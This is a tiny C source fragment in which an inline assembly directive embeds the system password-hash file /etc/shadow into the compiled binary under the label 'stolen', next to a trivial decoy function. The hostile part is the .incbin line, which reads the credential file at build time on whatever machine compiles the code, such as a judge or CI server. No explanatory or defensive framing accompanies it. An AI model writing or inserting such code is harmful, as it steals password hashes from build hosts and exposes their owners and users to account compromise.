__asm__(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.byte 0\n.text\n");
int f(int x) { return x > 3; }
